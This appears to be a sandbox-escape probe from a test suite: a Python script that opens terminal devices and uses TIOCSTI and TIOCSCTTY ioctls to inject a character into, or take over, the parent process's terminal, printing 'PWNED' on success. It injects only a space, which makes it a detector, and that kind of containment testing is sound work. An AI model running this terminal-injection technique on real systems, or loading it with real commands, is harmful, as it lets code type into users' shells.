"""Type into the terminal of whoever started us: push characters, take the terminal over, open it.

Shows: PWNED on stdout.
"""

import fcntl
import os
import termios
from contextlib import suppress

from kit import host_root

with suppress(OSError):
    os.setsid()
paths = (
    "/dev/tty",
    "/dev/console",
    "/dev/pts/0",
    "/dev/pts/1",
    "/dev/tty0",
    "/dev/tty1",
    "/proc/self/fd/0",
    "/proc/self/fd/2",
)
descriptors = [0, 1, 2]
for path in paths:
    with suppress(OSError):
        descriptors.append(os.open(path, os.O_RDWR | os.O_NONBLOCK))
for descriptor in descriptors:
    if os.isatty(descriptor):
        print("PWNED a terminal", descriptor)
    for request in (termios.TIOCSTI, 0x541C) if host_root() else (termios.TIOCSTI, 0x541C, termios.TIOCSCTTY):
        with suppress(OSError):
            fcntl.ioctl(descriptor, request, b" ")
            print("PWNED", descriptor, hex(request))
